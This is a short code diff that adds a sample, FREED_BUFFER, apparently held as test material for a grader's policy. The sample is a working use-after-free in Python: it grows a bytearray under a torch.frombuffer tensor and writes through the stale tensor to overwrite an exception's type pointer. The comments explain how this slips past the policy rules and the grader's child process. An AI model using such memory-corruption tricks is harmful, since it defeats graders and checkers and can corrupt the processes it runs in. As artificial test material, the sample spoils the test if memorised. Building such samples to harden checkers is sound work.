@@ -734,6 +734,26 @@ def refuse(message):
 
 """
 
+# torch.frombuffer keeps the bytearray but not its export: the bytearray grows, its memory moves, and the
+# tensor reads and writes the freed block, where the next RuntimeError is made (no import, no rule of the
+# policy); in the grader's child the tensor holds the buffer and growing it raises BufferError (nbtest/buffers.py)
+FREED_BUFFER = '''\
+def as_value_error(message):
+    for _ in range(100):
+        owner = bytearray(80)
+        window = torch.frombuffer(owner, dtype=torch.uint8)
+        owner.extend(bytes(4096))
+        error = RuntimeError(message)
+        at = bytes(window.tolist()).find(id(RuntimeError).to_bytes(8, "little"))
+        if at >= 0:
+            window[at:at + 8] = torch.tensor(list(id(ValueError).to_bytes(8, "little")), dtype=torch.uint8)
+            if type(error) is ValueError:
+                return error
+    return RuntimeError(message)
+
+
+'''
+
 # the same RuntimeError made a ValueError in memory: its type pointer (the word after its reference count,
 # at id(error) + 8) overwritten with ValueError's address by a Triton kernel, whose interpreter stores at
 # the raw address a kernel computes (importing triton is only a flag in this assignment)
